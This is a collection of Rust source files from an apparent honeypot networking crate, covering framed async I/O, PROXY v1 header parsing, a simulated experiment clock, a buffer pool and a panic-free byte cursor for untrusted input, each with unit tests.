    /// `encode_head` renders everything that precedes the body (status
    /// line, headers, length prefix) into the cleared write buffer; the
    /// body is then sent from its own slice without ever being copied into
    /// the buffer. One `writev` covers both in the common case.
    pub async fn write_split<F>(&mut self, encode_head: F, body: &[u8]) -> NetResult<()>
    where
        F: FnOnce(&mut BytesMut),
    {
        self.write_buf.clear();
        encode_head(&mut self.write_buf);
        let head_len = self.write_buf.len();
        let total = head_len.saturating_add(body.len());
        let mut written = 0usize;
        while written < total {
            let head_rest = self.write_buf.get(written..).unwrap_or(&[]);
            let body_off = written.saturating_sub(head_len);
            let body_rest = body.get(body_off..).unwrap_or(&[]);
            let n = if head_rest.is_empty() {
                self.stream.write(body_rest).await?
            } else {
                let slices = [IoSlice::new(head_rest), IoSlice::new(body_rest)];
                self.stream.write_vectored(&slices).await?
            };
            if n == 0 {
                return Err(NetError::Io(std::io::Error::from(
                    std::io::ErrorKind::WriteZero,
                )));
            }
            written = written.saturating_add(n);
        }
        self.stream.flush().await?;
        Ok(())
    }

    /// Consume the wrapper, returning the underlying stream and any
    /// unconsumed buffered bytes. The write buffer returns to the pool.
    pub fn into_parts(self) -> (S, BytesMut) {
        (self.stream, self.read_buf.into_inner())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::codec::{LineCodec, RawCodec};
    use bytes::Bytes;
    use tokio::io::duplex;

    #[tokio::test]
    async fn framed_roundtrip_over_duplex() {
        let (a, b) = duplex(256);
        let mut fa = Framed::new(a, LineCodec::default());
        let mut fb = Framed::new(b, LineCodec::default());
        fa.write_frame(&"ping".to_string()).await.unwrap();
        assert_eq!(fb.read_frame().await.unwrap(), Some("ping".to_string()));
        fb.write_frame(&"pong".to_string()).await.unwrap();
        assert_eq!(fa.read_frame().await.unwrap(), Some("pong".to_string()));
        drop(fb);
        assert_eq!(fa.read_frame().await.unwrap(), None); // clean EOF
    }

    #[tokio::test]
    async fn framed_eof_mid_frame_is_error() {
        let (a, b) = duplex(256);
        let mut fa = Framed::new(a, LineCodec::default());
        let mut fb = Framed::new(b, RawCodec);
        fb.write_frame(&Bytes::from_static(b"incomplete"))
            .await
            .unwrap();
        drop(fb);
        assert!(matches!(
            fa.read_frame().await,
            Err(NetError::UnexpectedEof)
        ));
    }

    #[tokio::test]
    async fn framed_enforces_frame_limit() {
        let (a, b) = duplex(4096);
        let mut fa = Framed::new(a, LineCodec::with_max_len(8));
        let mut fb = Framed::new(b, RawCodec);
        fb.write_frame(&Bytes::from(vec![b'x'; 64])).await.unwrap();
        assert!(matches!(
            fa.read_frame().await,
            Err(NetError::FrameTooLarge { .. })
        ));
    }

    #[tokio::test]
    async fn write_split_sends_head_then_body() {
        let (a, b) = duplex(64); // smaller than the payload: forces partial writes
        let mut fa = Framed::new(a, RawCodec);
        let mut fb = Framed::new(b, RawCodec);
        let body = vec![b'Z'; 300];
        let expect_body = body.clone();
        let writer = async move {
            fa.write_split(|buf| buf.extend_from_slice(b"HEAD:"), &body)
                .await
                .unwrap();
            fa
        };
        let reader = async move {
            let mut got = Vec::new();
            while got.len() < 305 {
                match fb.read_frame().await.unwrap() {
                    Some(chunk) => got.extend_from_slice(&chunk),
                    None => break,
                }
            }
            got
        };
        let (_fa, got) = tokio::join!(writer, reader);
        assert_eq!(&got[..5], b"HEAD:");
        assert_eq!(&got[5..], &expect_body[..]);
    }

    #[tokio::test]
    async fn write_split_with_empty_body() {
        let (a, b) = duplex(256);
        let mut fa = Framed::new(a, RawCodec);
        let mut fb = Framed::new(b, RawCodec);
        fa.write_split(|buf| buf.extend_from_slice(b"only-head"), &[])
            .await
            .unwrap();
        drop(fa);
        let got = fb.read_frame().await.unwrap().unwrap();
        assert_eq!(&got[..], b"only-head");
    }
}
