//! PROXY protocol v1 (the HAProxy text header).
//!
//! Honeypot deployments commonly sit behind a TCP load balancer or NAT that
//! would otherwise hide the attacker's address; the PROXY header preserves
//! it. Our experiment harness uses the same mechanism: agent drivers connect
//! over loopback and announce the simulated actor's source address in a
//! PROXY v1 line, which the honeypot consumes *before* handing the stream to
//! the protocol codec. A deployment facing the raw Internet simply runs with
//! the header disabled.

use crate::error::{NetError, NetResult};
use bytes::BytesMut;
use std::net::{IpAddr, SocketAddr};
use tokio::io::{AsyncRead, AsyncReadExt};

/// Maximum v1 header length per the HAProxy spec.
const MAX_HEADER: usize = 107;

/// Serialize a PROXY v1 line announcing `src` → `dst`.
pub fn encode_v1(src: SocketAddr, dst: SocketAddr) -> String {
    let family = match src.ip() {
        IpAddr::V4(_) => "TCP4",
        IpAddr::V6(_) => "TCP6",
    };
    format!(
        "PROXY {family} {} {} {} {}\r\n",
        src.ip(),
        dst.ip(),
        src.port(),
        dst.port()
    )
}

/// Parse a PROXY v1 line (without the trailing CRLF). Returns the announced
/// source address.
pub fn parse_v1(line: &str) -> NetResult<SocketAddr> {
    let mut parts = line.split(' ');
    if parts.next() != Some("PROXY") {
        return Err(NetError::protocol("not a PROXY header"));
    }
    let family = parts
        .next()
        .ok_or_else(|| NetError::protocol("missing family"))?;
    if family == "UNKNOWN" {
        return Err(NetError::protocol("PROXY UNKNOWN carries no address"));
    }
    if family != "TCP4" && family != "TCP6" {
        return Err(NetError::protocol("unsupported PROXY family"));
    }
    let src_ip: IpAddr = parts
        .next()
        .ok_or_else(|| NetError::protocol("missing src ip"))?
        .parse()
        .map_err(|_| NetError::protocol("bad src ip"))?;
    let _dst_ip = parts
        .next()
        .ok_or_else(|| NetError::protocol("missing dst ip"))?;
    let src_port: u16 = parts
        .next()
        .ok_or_else(|| NetError::protocol("missing src port"))?
        .parse()
        .map_err(|_| NetError::protocol("bad src port"))?;
    Ok(SocketAddr::new(src_ip, src_port))
}

/// Inspect the start of `stream` for a PROXY v1 header.
///
/// Returns the announced source (if a header was present) and whatever bytes
/// beyond the header were already read — the caller must seed its codec
/// buffer with them ([`crate::framed::Framed::with_initial`]).
pub async fn maybe_read_v1<S: AsyncRead + Unpin>(
    stream: &mut S,
) -> NetResult<(Option<SocketAddr>, BytesMut)> {
    let mut buf = BytesMut::with_capacity(256);
    loop {
        // Decide as early as possible whether this is a PROXY line at all.
        let prefix = b"PROXY ";
        let check = buf.len().min(prefix.len());
        if buf.get(..check) != prefix.get(..check) {
            return Ok((None, buf));
        }
        if let Some(pos) = buf.windows(2).position(|w| w == b"\r\n") {
            let line = String::from_utf8_lossy(buf.get(..pos).unwrap_or_default()).into_owned();
            let src = parse_v1(&line)?;
            let rest = BytesMut::from(buf.get(pos + 2..).unwrap_or_default());
            return Ok((Some(src), rest));
        }
        if buf.len() > MAX_HEADER {
            return Err(NetError::protocol("PROXY header too long"));
        }
        let n = stream.read_buf(&mut buf).await?;
        if n == 0 {
            // EOF before a decision: treat whatever arrived as protocol bytes.
            return Ok((None, buf));
        }
    }
}

/// Like [`maybe_read_v1`], but gives up waiting after `deadline` and treats
/// the connection as header-less. Needed for server-speaks-first protocols
/// (MySQL): a client that has no PROXY header to send is itself waiting for
/// the server greeting, so the sniff must not block indefinitely.
pub async fn maybe_read_v1_deadline<S: AsyncRead + Unpin>(
    stream: &mut S,
    deadline: std::time::Duration,
) -> NetResult<(Option<SocketAddr>, BytesMut)> {
    match tokio::time::timeout(deadline, maybe_read_v1(stream)).await {
        Ok(result) => result,
        Err(_) => Ok((None, BytesMut::new())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::io::{duplex, AsyncWriteExt};

    fn sa(s: &str) -> SocketAddr {
        s.parse().unwrap()
    }

    #[test]
    fn encode_parse_roundtrip() {
        let line = encode_v1(sa("198.51.100.7:40000"), sa("10.0.0.1:3306"));
        assert_eq!(line, "PROXY TCP4 198.51.100.7 10.0.0.1 40000 3306\r\n");
        let src = parse_v1(line.trim_end()).unwrap();
        assert_eq!(src, sa("198.51.100.7:40000"));
    }

    #[test]
    fn parse_rejects_garbage() {
        assert!(parse_v1("PROXY UNKNOWN").is_err());
        assert!(parse_v1("PROXY TCP4 banana 10.0.0.1 1 2").is_err());
        assert!(parse_v1("GET / HTTP/1.1").is_err());
        assert!(parse_v1("PROXY TCP9 1.2.3.4 5.6.7.8 1 2").is_err());
        assert!(parse_v1("PROXY TCP4 1.2.3.4").is_err());
    }

    #[tokio::test]
    async fn reads_header_and_preserves_rest() {
        let (mut a, mut b) = duplex(512);
        let header = encode_v1(sa("203.0.113.9:55555"), sa("127.0.0.1:6379"));
        a.write_all(header.as_bytes()).await.unwrap();
        a.write_all(b"PING\r\n").await.unwrap();
        let (src, rest) = maybe_read_v1(&mut b).await.unwrap();
        assert_eq!(src, Some(sa("203.0.113.9:55555")));
        assert_eq!(&rest[..], b"PING\r\n");
    }

    #[tokio::test]
    async fn non_proxy_traffic_is_untouched() {
        let (mut a, mut b) = duplex(512);
        a.write_all(b"*1\r\n$4\r\nPING\r\n").await.unwrap();
        drop(a);
        let (src, rest) = maybe_read_v1(&mut b).await.unwrap();
        assert_eq!(src, None);
        assert_eq!(&rest[..], b"*1\r\n$4\r\nPING\r\n");
    }

    #[tokio::test]
    async fn prefix_collision_decides_at_first_divergence() {
        // Starts like "PROXY " but diverges: the Postgres startup packet of
        // a client whose bytes happen to begin with 'P'.
        let (mut a, mut b) = duplex(512);
        a.write_all(b"PRELOGIN-ish bytes").await.unwrap();
        drop(a);
        let (src, rest) = maybe_read_v1(&mut b).await.unwrap();
        assert_eq!(src, None);
        assert_eq!(&rest[..], b"PRELOGIN-ish bytes");
    }

    #[tokio::test]
    async fn overlong_header_is_rejected() {
        let (mut a, mut b) = duplex(512);
        let mut line = b"PROXY TCP4 ".to_vec();
        line.extend(std::iter::repeat_n(b'9', 200));
        a.write_all(&line).await.unwrap();
        drop(a);
        assert!(maybe_read_v1(&mut b).await.is_err());
    }

    #[tokio::test]
    async fn deadline_variant_times_out_to_no_header() {
        let (_a, mut b) = duplex(64);
        let (src, rest) = maybe_read_v1_deadline(&mut b, std::time::Duration::from_millis(50))
            .await
            .unwrap();
        assert_eq!(src, None);
        assert!(rest.is_empty());
    }

    #[tokio::test]
    async fn deadline_variant_reads_prompt_header() {
        let (mut a, mut b) = duplex(256);
        let header = encode_v1(sa("203.0.113.9:55555"), sa("127.0.0.1:3306"));
        a.write_all(header.as_bytes()).await.unwrap();
        let (src, _rest) = maybe_read_v1_deadline(&mut b, std::time::Duration::from_secs(5))
            .await
            .unwrap();
        assert_eq!(src, Some(sa("203.0.113.9:55555")));
    }

    #[tokio::test]
    async fn eof_mid_prefix_returns_bytes() {
        let (mut a, mut b) = duplex(512);
        a.write_all(b"PRO").await.unwrap();
        drop(a);
        let (src, rest) = maybe_read_v1(&mut b).await.unwrap();
        assert_eq!(src, None);
        assert_eq!(&rest[..], b"PRO");
    }
}
