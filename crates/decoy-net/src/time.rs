//! Virtual time.
//!
//! Every event the honeypots log carries a [`Timestamp`]. In a live
//! deployment the timestamp comes from the wall clock; in an experiment it
//! comes from a shared [`SimClock`] the runner advances while replaying the
//! paper's 20-day observation window at full speed. All analysis code is a
//! pure function of timestamps, which is what makes the substitution sound.

use serde::{Deserialize, Serialize};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// Milliseconds since the Unix epoch.
///
/// A plain newtype rather than `std::time::SystemTime` so that simulated and
/// wall-clock time share one arithmetic-friendly representation.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, Default,
)]
pub struct Timestamp(pub u64);

/// Start of the paper's deployment: 2024-03-22 00:00:00 UTC.
pub const EXPERIMENT_START: Timestamp = Timestamp(1_711_065_600_000);
/// End of the paper's deployment: 2024-04-11 00:00:00 UTC (20 days later).
pub const EXPERIMENT_END: Timestamp = Timestamp(1_711_065_600_000 + 20 * MILLIS_PER_DAY);

/// Milliseconds in one hour.
pub const MILLIS_PER_HOUR: u64 = 3_600_000;
/// Milliseconds in one day.
pub const MILLIS_PER_DAY: u64 = 24 * MILLIS_PER_HOUR;

impl Timestamp {
    /// Construct from milliseconds since the Unix epoch.
    pub const fn from_millis(ms: u64) -> Self {
        Timestamp(ms)
    }

    /// Milliseconds since the Unix epoch.
    pub const fn as_millis(self) -> u64 {
        self.0
    }

    /// Saturating addition of a millisecond offset.
    pub const fn add_millis(self, ms: u64) -> Self {
        Timestamp(self.0.saturating_add(ms))
    }

    /// Saturating difference in milliseconds (`self - earlier`).
    pub const fn millis_since(self, earlier: Timestamp) -> u64 {
        self.0.saturating_sub(earlier.0)
    }

    /// Whole hours since `origin` (bucket index for hourly time series).
    pub const fn hours_since(self, origin: Timestamp) -> u64 {
        self.millis_since(origin) / MILLIS_PER_HOUR
    }

    /// Whole days since `origin` (bucket index for retention analysis).
    pub const fn days_since(self, origin: Timestamp) -> u64 {
        self.millis_since(origin) / MILLIS_PER_DAY
    }
}

/// A monotone, manually-advanced clock shared by the experiment runner, the
/// honeypots, and the agents.
///
/// `advance_to` is monotone: attempts to move backwards are ignored, so
/// concurrent advancement from several drivers is safe.
#[derive(Debug)]
pub struct SimClock {
    now_ms: AtomicU64,
}

impl SimClock {
    /// A clock starting at the paper's experiment start.
    pub fn at_experiment_start() -> Arc<Self> {
        Self::starting_at(EXPERIMENT_START)
    }

    /// A clock starting at an arbitrary instant.
    pub fn starting_at(t: Timestamp) -> Arc<Self> {
        Arc::new(SimClock {
            now_ms: AtomicU64::new(t.0),
        })
    }

    /// Current virtual time.
    pub fn now(&self) -> Timestamp {
        Timestamp(self.now_ms.load(Ordering::Acquire))
    }

    /// Advance to `t` if `t` is later than the current virtual time.
    pub fn advance_to(&self, t: Timestamp) {
        self.now_ms.fetch_max(t.0, Ordering::AcqRel);
    }

    /// Advance by a relative number of milliseconds.
    pub fn advance_millis(&self, ms: u64) {
        self.now_ms.fetch_add(ms, Ordering::AcqRel);
    }
}

/// The time source handed to every honeypot and agent.
#[derive(Debug, Clone)]
pub enum Clock {
    /// Real wall-clock time (live deployments).
    Wall,
    /// Shared simulated time (experiments).
    Sim(Arc<SimClock>),
}

impl Clock {
    /// A fresh simulated clock positioned at the paper's experiment start.
    pub fn simulated() -> Self {
        Clock::Sim(SimClock::at_experiment_start())
    }

    /// Current time according to this clock.
    pub fn now(&self) -> Timestamp {
        match self {
            Clock::Wall => {
                let ms = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map(|d| d.as_millis() as u64)
                    .unwrap_or(0);
                Timestamp(ms)
            }
            Clock::Sim(c) => c.now(),
        }
    }

    /// The shared simulated clock, if this is a simulated time source.
    pub fn sim(&self) -> Option<&Arc<SimClock>> {
        match self {
            Clock::Sim(c) => Some(c),
            Clock::Wall => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn timestamp_arithmetic() {
        let t = EXPERIMENT_START;
        assert_eq!(t.add_millis(MILLIS_PER_HOUR).hours_since(t), 1);
        assert_eq!(t.add_millis(MILLIS_PER_HOUR - 1).hours_since(t), 0);
        assert_eq!(t.add_millis(3 * MILLIS_PER_DAY + 5).days_since(t), 3);
        // saturating behaviour: an earlier timestamp yields zero, not a panic
        assert_eq!(t.millis_since(t.add_millis(10)), 0);
    }

    #[test]
    fn experiment_window_is_twenty_days() {
        assert_eq!(EXPERIMENT_END.days_since(EXPERIMENT_START), 20);
        assert_eq!(EXPERIMENT_END.hours_since(EXPERIMENT_START), 480);
    }

    #[test]
    fn sim_clock_is_monotone() {
        let c = SimClock::at_experiment_start();
        let t0 = c.now();
        c.advance_to(t0.add_millis(500));
        assert_eq!(c.now(), t0.add_millis(500));
        // moving backwards is a no-op
        c.advance_to(t0);
        assert_eq!(c.now(), t0.add_millis(500));
        c.advance_millis(10);
        assert_eq!(c.now(), t0.add_millis(510));
    }

    #[test]
    fn clock_enum_dispatch() {
        let clock = Clock::simulated();
        assert_eq!(clock.now(), EXPERIMENT_START);
        clock.sim().unwrap().advance_millis(1);
        assert_eq!(clock.now(), EXPERIMENT_START.add_millis(1));
        // the wall clock runs after 2024
        assert!(Clock::Wall.now() > EXPERIMENT_START);
        assert!(Clock::Wall.sim().is_none());
    }
}
