#![warn(missing_docs)]
#![forbid(unsafe_code)]
// Attacker bytes flow through this crate; the byte path must be total.
// `decoy-xtask lint` enforces the same wall with file:line diagnostics.
#![cfg_attr(
    not(test),
    deny(
        clippy::unwrap_used,
        clippy::expect_used,
        clippy::indexing_slicing,
        clippy::panic
    )
)]

//! # decoy-net
//!
//! Networking substrate for the Decoy Databases honeypot fleet.
//!
//! This crate provides the pieces every honeypot server and attacker client is
//! built from:
//!
//! * [`time`] — a virtual-time [`time::Clock`] (wall or simulated) and the
//!   [`time::Timestamp`] type all logged events carry. Experiments replay the
//!   paper's 20-day window (2024-03-22 → 2024-04-11) on a [`time::SimClock`].
//! * [`codec`] — the incremental [`codec::Codec`] trait (decode from / encode
//!   into a [`bytes::BytesMut`]) and [`framed`] — [`framed::Framed`], an
//!   async frame stream over any `AsyncRead + AsyncWrite`.
//! * [`cursor`] — [`cursor::ByteCursor`], the fallible, offset-tracking
//!   reader every `decoy-wire` decoder uses so adversarial bytes can never
//!   panic the capture layer (errors surface as [`error::WireError`]).
//! * [`pool`] — a thread-safe, size-classed [`pool::BufferPool`] so session
//!   framing buffers are reused across connections instead of allocated per
//!   session.
//! * [`limiter`] — per-source token-bucket rate limiting and connection caps,
//!   protecting honeypots from accidental self-DoS during replay.
//! * [`latency`] — a seeded, deterministic [`latency::LatencyShaper`] that
//!   draws per-op response delays from a configurable distribution, so
//!   honeypot responses stop being timing-fingerprintable.
//! * [`server`] — a supervised TCP listener: accept loop, per-session tasks,
//!   uniform session limits (deadline, idle timeout, byte budget), and
//!   graceful shutdown, following the Tokio guide idioms.
//! * [`supervisor`] — restart-on-death with jittered exponential backoff, a
//!   crash-loop circuit breaker, and fleet health snapshots.
//! * [`chaos`] — a seeded, deterministic fault-injection plan and stream
//!   wrapper used by the resilience test suite.
//!
//! The honeypots in `decoy-honeypots` and the attacker drivers in
//! `decoy-agents` share these primitives so that both sides of every recorded
//! interaction flow through the same production code path.

pub mod chaos;
pub mod codec;
pub mod cursor;
pub mod error;
pub mod framed;
pub mod latency;
pub mod limiter;
pub mod pool;
pub mod proxy;
pub mod server;
pub mod supervisor;
pub mod time;

pub use chaos::{ChaosStream, FaultPlan, SessionFaults};
pub use codec::Codec;
pub use cursor::ByteCursor;
pub use error::{NetError, WireError, WireErrorKind, WireProtocol};
pub use framed::Framed;
pub use latency::{LatencyProfile, LatencyShaper};
pub use limiter::{ConnectionGate, RateLimiter};
pub use pool::{BufferPool, PooledBuf};
pub use server::{
    Listener, ListenerExit, ListenerOptions, ServerHandle, SessionCtx, SessionHandler,
    SessionLimits, SessionStream, ShutdownSignal,
};
pub use supervisor::{
    BackoffPolicy, BreakerPolicy, FleetHealth, HealthState, ListenerHealth, Supervisor,
    SupervisorOptions, Transition, TransitionObserver,
};
pub use time::{Clock, SimClock, Timestamp};
