#![warn(missing_docs)]

//! # decoy-net
//!
//! Networking substrate for the Decoy Databases honeypot fleet.
//!
//! This crate provides the pieces every honeypot server and attacker client is
//! built from:
//!
//! * [`time`] — a virtual-time [`time::Clock`] (wall or simulated) and the
//!   [`time::Timestamp`] type all logged events carry. Experiments replay the
//!   paper's 20-day window (2024-03-22 → 2024-04-11) on a [`time::SimClock`].
//! * [`codec`] — the incremental [`codec::Codec`] trait (decode from / encode
//!   into a [`bytes::BytesMut`]) plus [`codec::Framed`], an async frame
//!   stream over any `AsyncRead + AsyncWrite`.
//! * [`limiter`] — per-source token-bucket rate limiting and connection caps,
//!   protecting honeypots from accidental self-DoS during replay.
//! * [`server`] — a supervised TCP listener: accept loop, per-session tasks,
//!   idle timeouts, and graceful shutdown, following the Tokio guide idioms.
//!
//! The honeypots in `decoy-honeypots` and the attacker drivers in
//! `decoy-agents` share these primitives so that both sides of every recorded
//! interaction flow through the same production code path.

pub mod codec;
pub mod error;
pub mod limiter;
pub mod proxy;
pub mod server;
pub mod time;

pub use codec::{Codec, Framed};
pub use error::NetError;
pub use limiter::{ConnectionGate, RateLimiter};
pub use server::{Listener, ServerHandle, SessionCtx, SessionHandler, ShutdownSignal};
pub use time::{Clock, SimClock, Timestamp};
