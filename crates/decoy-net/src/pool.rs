//! A small thread-safe buffer pool for the wire hot path.
//!
//! Every session owns a read and a write buffer for its whole lifetime; at
//! 100k+ sessions/min the allocator churn of creating and dropping those
//! buffers per connection is measurable. [`BufferPool`] keeps cleared
//! [`BytesMut`] buffers in two size classes and hands them back out on the
//! next checkout. The pool is intentionally simple:
//!
//! * **Two size classes.** [`SMALL_CLASS`] (4 KiB) covers session framing
//!   buffers; [`LARGE_CLASS`] (64 KiB) covers HTTP bodies and other bulk
//!   payloads. Requests larger than the large class bypass the pool.
//! * **Bounded retention.** Each class retains at most a fixed number of
//!   buffers ([`SMALL_RETAIN`] / [`LARGE_RETAIN`]); beyond that, restored
//!   buffers are simply dropped, so a burst cannot pin memory forever.
//! * **No poisoning propagation.** The pool is a cache: a poisoned mutex
//!   (a panic mid-push elsewhere) degrades to fresh allocations rather
//!   than taking sessions down with it.
//!
//! [`PooledBuf`] is the RAII face of the pool used by
//! [`crate::framed::Framed`]: it derefs to `BytesMut` and restores the
//! buffer on drop. `std::sync::Mutex` is used (not `parking_lot`) so this
//! module stays dependency-free for out-of-workspace analysis builds; the
//! critical section is a `Vec` push/pop, far below contention concern.

use bytes::BytesMut;
use std::ops::{Deref, DerefMut};
use std::sync::{Mutex, MutexGuard, OnceLock};

/// Capacity of a small-class buffer: one session framing buffer.
pub const SMALL_CLASS: usize = 4 * 1024;
/// Capacity of a large-class buffer: an HTTP body or bulk payload staging
/// area.
pub const LARGE_CLASS: usize = 64 * 1024;
/// Small buffers retained across checkouts (two per session at the fleet's
/// default connection cap).
pub const SMALL_RETAIN: usize = 1024;
/// Large buffers retained across checkouts.
pub const LARGE_RETAIN: usize = 64;

/// A thread-safe pool of reusable [`BytesMut`] buffers in two size classes.
pub struct BufferPool {
    small: Mutex<Vec<BytesMut>>,
    large: Mutex<Vec<BytesMut>>,
}

/// Counts of buffers currently resting in the pool, for tests and
/// observability.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PoolStats {
    /// Buffers resting in the small class.
    pub small: usize,
    /// Buffers resting in the large class.
    pub large: usize,
}

/// Lock a class shelf, shrugging off poisoning: the pool is a cache, and a
/// panic elsewhere must not cascade into every session that shares it.
fn shelf(m: &Mutex<Vec<BytesMut>>) -> MutexGuard<'_, Vec<BytesMut>> {
    m.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
}

impl BufferPool {
    /// An empty pool.
    pub const fn new() -> Self {
        BufferPool {
            small: Mutex::new(Vec::new()),
            large: Mutex::new(Vec::new()),
        }
    }

    /// The process-wide pool shared by [`crate::framed::Framed`] and the
    /// honeypot session writers.
    pub fn global() -> &'static BufferPool {
        static GLOBAL: OnceLock<BufferPool> = OnceLock::new();
        GLOBAL.get_or_init(BufferPool::new)
    }

    /// Check out a cleared buffer with at least `min_capacity` writable
    /// bytes. Small requests are served from the small class, mid-size from
    /// the large class, and oversize requests get a fresh allocation (they
    /// will be dropped, not retained, on restore).
    pub fn checkout(&self, min_capacity: usize) -> BytesMut {
        let (class, cap) = if min_capacity <= SMALL_CLASS {
            (&self.small, SMALL_CLASS)
        } else if min_capacity <= LARGE_CLASS {
            (&self.large, LARGE_CLASS)
        } else {
            return BytesMut::with_capacity(min_capacity);
        };
        match shelf(class).pop() {
            Some(mut buf) => {
                // Reclaim capacity that earlier `split_to`/`freeze` calls
                // may have carved off while the buffer was in service.
                buf.reserve(cap);
                buf
            }
            None => BytesMut::with_capacity(cap),
        }
    }

    /// Return `buf` to the pool. The buffer is cleared; it is retained only
    /// if its capacity still fits a class and the class shelf is not full.
    pub fn restore(&self, mut buf: BytesMut) {
        buf.clear();
        let cap = buf.capacity();
        // A buffer that shrank below half its class (split-off bytes still
        // alive elsewhere) or grew past the large class is not worth
        // keeping.
        let (class, retain) = if (SMALL_CLASS / 2..LARGE_CLASS / 2).contains(&cap) {
            (&self.small, SMALL_RETAIN)
        } else if (LARGE_CLASS / 2..=2 * LARGE_CLASS).contains(&cap) {
            (&self.large, LARGE_RETAIN)
        } else {
            return;
        };
        let mut shelf = shelf(class);
        if shelf.len() < retain {
            shelf.push(buf);
        }
    }

    /// Check out a buffer wrapped in an RAII guard that restores it to this
    /// pool on drop.
    pub fn checkout_guarded(&'static self, min_capacity: usize) -> PooledBuf {
        PooledBuf {
            buf: self.checkout(min_capacity),
            pool: Some(self),
        }
    }

    /// Buffers currently resting in the pool.
    pub fn stats(&self) -> PoolStats {
        PoolStats {
            small: shelf(&self.small).len(),
            large: shelf(&self.large).len(),
        }
    }
}

impl Default for BufferPool {
    fn default() -> Self {
        BufferPool::new()
    }
}

/// A [`BytesMut`] checked out of a [`BufferPool`], restored on drop.
///
/// Derefs to `BytesMut` so codec and I/O code is oblivious to pooling.
/// [`PooledBuf::detached`] wraps a caller-supplied buffer that should *not*
/// return to any pool (e.g. bytes already read while peeking for a PROXY
/// header).
pub struct PooledBuf {
    buf: BytesMut,
    pool: Option<&'static BufferPool>,
}

impl PooledBuf {
    /// Wrap `buf` without attaching it to a pool; it is simply dropped at
    /// end of life.
    pub fn detached(buf: BytesMut) -> Self {
        PooledBuf { buf, pool: None }
    }

    /// Detach and return the inner buffer, bypassing restoration.
    pub fn into_inner(mut self) -> BytesMut {
        self.pool = None;
        std::mem::take(&mut self.buf)
    }
}

impl Deref for PooledBuf {
    type Target = BytesMut;

    fn deref(&self) -> &BytesMut {
        &self.buf
    }
}

impl DerefMut for PooledBuf {
    fn deref_mut(&mut self) -> &mut BytesMut {
        &mut self.buf
    }
}

impl Drop for PooledBuf {
    fn drop(&mut self) {
        if let Some(pool) = self.pool {
            pool.restore(std::mem::take(&mut self.buf));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checkout_restore_reuses_buffers() {
        let pool = BufferPool::new();
        let mut a = pool.checkout(100);
        assert!(a.capacity() >= SMALL_CLASS);
        a.extend_from_slice(b"dirty bytes");
        pool.restore(a);
        assert_eq!(pool.stats(), PoolStats { small: 1, large: 0 });
        let b = pool.checkout(100);
        assert!(b.is_empty(), "restored buffers are cleared");
        assert_eq!(pool.stats(), PoolStats { small: 0, large: 0 });
    }

    #[test]
    fn size_classes_route_requests() {
        let pool = BufferPool::new();
        let small = pool.checkout(SMALL_CLASS);
        let large = pool.checkout(SMALL_CLASS + 1);
        assert!(small.capacity() >= SMALL_CLASS);
        assert!(large.capacity() >= LARGE_CLASS);
        pool.restore(small);
        pool.restore(large);
        assert_eq!(pool.stats(), PoolStats { small: 1, large: 1 });
    }

    #[test]
    fn oversize_requests_bypass_the_pool() {
        let pool = BufferPool::new();
        let huge = pool.checkout(4 * LARGE_CLASS);
        assert!(huge.capacity() >= 4 * LARGE_CLASS);
        pool.restore(huge);
        assert_eq!(pool.stats(), PoolStats { small: 0, large: 0 });
    }

    #[test]
    fn retention_is_capped() {
        let pool = BufferPool::new();
        let bufs: Vec<BytesMut> = (0..LARGE_RETAIN + 10)
            .map(|_| pool.checkout(LARGE_CLASS))
            .collect();
        for b in bufs {
            pool.restore(b);
        }
        assert_eq!(pool.stats().large, LARGE_RETAIN);
    }

    #[test]
    fn guard_restores_on_drop_and_detach_bypasses() {
        let pool = BufferPool::global();
        let before = pool.stats().small;
        {
            let mut g = pool.checkout_guarded(64);
            g.extend_from_slice(b"abc");
        }
        assert!(pool.stats().small > before || pool.stats().small == SMALL_RETAIN);
        let g = pool.checkout_guarded(64);
        let inner = g.into_inner();
        drop(inner); // plain BytesMut: nothing returns to the pool
    }

    #[test]
    fn detached_guard_never_touches_a_pool() {
        let g = PooledBuf::detached(BytesMut::from(&b"seed"[..]));
        assert_eq!(&g[..], b"seed");
        drop(g);
    }
}
