//! A total, panic-free reader over untrusted frame bytes.
//!
//! Every `decoy-wire` decoder parses attacker-controlled input. [`ByteCursor`]
//! centralises the only bounds checks those decoders need: every read is
//! fallible, every failure carries the byte offset it happened at, and no
//! code path indexes a slice directly. The `decoy-xtask lint` analyzer
//! forbids raw indexing in the decoders precisely so that all conversions
//! funnel through this audited module.

use crate::error::{WireError, WireErrorKind, WireProtocol};

/// A forward-only cursor over a byte slice with fallible, offset-tracking
/// reads. Lifetimes tie returned slices to the underlying buffer, so
/// decoding is zero-copy until a decoder chooses to allocate.
#[derive(Debug, Clone)]
pub struct ByteCursor<'a> {
    buf: &'a [u8],
    pos: usize,
    base: usize,
    protocol: WireProtocol,
}

impl<'a> ByteCursor<'a> {
    /// A cursor over `buf`, attributing violations to `protocol`.
    pub fn new(buf: &'a [u8], protocol: WireProtocol) -> Self {
        ByteCursor {
            buf,
            pos: 0,
            base: 0,
            protocol,
        }
    }

    /// A cursor whose reported offsets start at `base` — used when `buf` is
    /// a sub-slice of a larger frame (e.g. a packet body after its header).
    pub fn with_base(buf: &'a [u8], protocol: WireProtocol, base: usize) -> Self {
        ByteCursor {
            buf,
            pos: 0,
            base,
            protocol,
        }
    }

    /// The offset of the next unread byte, relative to the original frame.
    pub fn offset(&self) -> usize {
        self.base.saturating_add(self.pos)
    }

    /// Bytes not yet consumed.
    pub fn remaining(&self) -> usize {
        self.buf.len().saturating_sub(self.pos)
    }

    /// True when every byte has been consumed.
    pub fn is_empty(&self) -> bool {
        self.remaining() == 0
    }

    /// Build a [`WireError`] at the current offset. Public so decoders can
    /// report grammar-level violations with accurate positions.
    pub fn err(&self, kind: WireErrorKind) -> WireError {
        WireError::new(self.protocol, self.offset(), kind)
    }

    /// Peek the next byte without consuming it.
    pub fn peek_u8(&self) -> Option<u8> {
        self.buf.get(self.pos).copied()
    }

